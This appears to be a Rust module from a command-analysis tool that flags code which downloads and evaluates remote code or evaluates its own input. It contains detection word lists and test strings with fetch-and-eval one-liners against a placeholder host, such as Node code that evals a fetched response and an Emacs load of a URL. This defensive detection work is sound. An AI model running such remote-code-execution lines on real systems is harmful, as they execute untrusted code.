//! Code that fetches more code and evaluates it, in whatever language: `source("https://…")`,
//! `include(download("…"))`, `get(url, r => … eval(d))`; and code that evaluates what comes in.

use crate::effect::Call;
use crate::effect::Effect;
use crate::effect::code::address::Address;
use crate::effect::code::flow::{self, Origin};
use crate::effect::code::{Found, code_run, ran};
use crate::syntax::Span;

/// Words that evaluate a text wherever they stand beside an address.
const EVALUATORS: [&str; 18] = [
    "eval",
    "exec",
    "eval-buffer",
    "eval-region",
    "eval_string",
    "eval-string",
    "load_string",
    "load-string",
    "loadstring",
    "instance_eval",
    "class_eval",
    "Function",
    "runInThisContext",
    "runInNewContext",
    "include_string",
    "evaluate",
    "execfile",
    "EVAL",
];

/// Words that run what stands at the address in their brackets.
const LOADERS: [&str; 11] = [
    "source",
    "source_url",
    "include",
    "include_once",
    "require",
    "require_once",
    "import",
    "load",
    "load-file",
    "dofile",
    "loadfile",
];

/// Adds code that is fetched and evaluated by what fetches it.
pub(super) fn read(call: Call<'_>, text: &str, span: Span, effects: &mut Vec<Effect>) {
    // R's packages from a place that everyone on the way could stand in for.
    if text.contains("install.packages")
        && let Some(at) = text.find("http://")
    {
        let url = text[at..].split(['"', '\'']).next().unwrap_or_default();
        let address = Address::read(url);
        if !address.host.contains("cran") && !address.host.ends_with("r-project.org") && !address.is_near() {
            effects.push(code_run(Found::at("package", address, span), call));
        }
        return;
    }
    if let Some(url) = evaluated(text) {
        effects.push(code_run(Found::at("download", Address::read(url), span), call));
    }
}

/// The address whose answer is evaluated.
fn evaluated(text: &str) -> Option<&str> {
    let sign = text.find("://")?;
    let letters = |c: char| c.is_ascii_alphanumeric() || c == '+';
    let start = text[..sign].rfind(|c: char| !letters(c)).map_or(0, |at| at + 1);
    if !matches!(text.get(start..sign)?, "http" | "https" | "ftp") {
        return None;
    }
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '(' | ';' | ',' | '>');
    let end = text[sign..].find(ends).map_or(text.len(), |at| sign + at);
    let outside = |at: usize| at < start || at >= end;
    let member = |at: usize| text[..at].ends_with('.');
    let evaluates = EVALUATORS.iter().any(|name| {
        words(text, name).filter(|&at| outside(at)).any(|at| {
            // `/x/.exec(…)` and `page.evaluate(…)` are something else, and `eval('1')` has its text.
            let given = text[at + name.len()..].trim_start().trim_start_matches('(');
            let known =
                given.starts_with(['\'', '"']) && !given.starts_with(&text[start.saturating_sub(1)..end]);
            !(known || member(at) && matches!(*name, "exec" | "evaluate"))
        })
    }) || text.contains("getline") && words(text, "system").any(outside);
    let loads = || {
        LOADERS.iter().any(|name| {
            words(text, name).any(|at| at < start && !member(at) && holds(text, at, name.len(), start))
        })
    };
    (evaluates || loads()).then(|| &text[start..end])
}

/// Where a word stands, with no letter on either side.
fn words<'t>(text: &'t str, name: &'static str) -> impl Iterator<Item = usize> + 't {
    let letter = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-');
    text.match_indices(name)
        .map(|(at, _)| at)
        .filter(move |&at| !text[..at].ends_with(letter) && !text[at + name.len()..].starts_with(letter))
}

/// Whether the address stands in the brackets of this word.
fn holds(text: &str, at: usize, length: usize, address: usize) -> bool {
    let between = text[at + length..address].trim_start();
    if !between.starts_with('(') {
        // `(load "http://…")`, `include 'http://…'`
        return between.chars().all(|c| matches!(c, '"' | '\'' | ' '));
    }
    let mut open = 0usize;
    for char in between.chars() {
        match char {
            '(' => open += 1,
            ')' => open = open.saturating_sub(1),
            _ => {}
        }
        if open == 0 {
            return false;
        }
    }
    true
}

/// Adds what comes into a call whose code evaluates its input: `curl … | awk '{system($0)}'`.
pub(super) fn read_input(call: Call<'_>, text: &str, span: Span, effects: &mut Vec<Effect>) {
    if evaluates_input(text) {
        match flow::of_input(call, call.invocation, 0) {
            Origin::Literal(_) | Origin::Other => {}
            origin => ran(call, origin, span, effects),
        }
    }
}

fn evaluates_input(text: &str) -> bool {
    const RUNS: [&str; 12] = [
        "system",
        "exec",
        "eval",
        "popen",
        "run",
        "call",
        "Popen",
        "execSync",
        "spawn",
        "check_output",
        "shell_exec",
        "passthru",
    ];
    const INPUTS: [&str; 14] = [
        "$0",
        "$_",
        "$1",
        "$2",
        "$line",
        "input(",
        "stdin",
        "STDIN",
        "<>",
        "readFileSync(0",
        "gets",
        "io.read",
        "fileinput",
        "open(0",
    ];
    RUNS.iter().any(|name| {
        words(text, name).any(|at| {
            let rest = text[at + name.len()..].trim_start_matches([' ', '(', '[', '{']);
            let window: String =
                rest.chars().take(48).take_while(|c| !matches!(c, ';' | '\n' | '}')).collect();
            // Only where it is run as it stands.
            INPUTS.iter().any(|input| {
                window.find(input).is_some_and(|at| {
                    !window[..at].contains(['"', ' ', ',']) || window[..at].contains("import")
                })
            })
        })
    }) || [
        "$0 | \"sh\"",
        "$0|\"sh\"",
        "$0 | \"bash\"",
        "$0|\"bash\"",
        "print | \"sh\"",
        "print|\"sh\"",
        "print | \"bash\"",
        "`$_`",
    ]
    .iter()
    .any(|piped| text.contains(piped))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_and_evaluated() {
        for text in [
            "source(\"https://a.example/x\")",
            "include(download(\"https://a.example/x\"))",
            "(with-current-buffer (url-retrieve-synchronously \"https://a.example/x\") (eval-buffer))",
            "(load \"https://a.example/x\")",
            "require('https').get('https://a.example/x',r=>{let d='';r.on('end',()=>eval(d))})",
            "eval(parse(text=readLines(\"https://a.example/x\")))",
            "include 'https://a.example/x';",
        ] {
            assert_eq!(evaluated(text), Some("https://a.example/x"), "{text}");
        }
        for text in [
            "require('https').get('https://a.example/x', r => r.pipe(process.stdout))",
            "import requests; print(requests.get('https://a.example/eval').text)",
            "console.log(/x/.exec(await fetch('https://a.example/x')))",
            "page.goto('https://a.example/x'); page.evaluate(f)",
            "import json; json.load(urlopen('https://a.example/x'))",
            "print(eval('1'), get('https://a.example/x'))",
            "read.csv(\"https://a.example/x\")",
            "source(\"x.R\")",
            "retrieval('https://a.example')",
        ] {
            assert_eq!(evaluated(text), None, "{text}");
        }
    }

    #[test]
    fn what_evaluates_its_input() {
        for text in [
            "{system($0)}",
            "system($_)",
            "import sys; exec(sys.stdin.read())",
            "exec(input())",
            "eval(require('fs').readFileSync(0,'utf8'))",
            "{print | \"sh\"}",
        ] {
            assert!(evaluates_input(text), "{text}");
        }
        for text in [
            "{system(\"echo \" $1)}",
            "{print $0}",
            "import json,sys; print(json.load(sys.stdin))",
            "eval('1'); print(sys.stdin.read())",
        ] {
            assert!(!evaluates_input(text), "{text}");
        }
    }
}
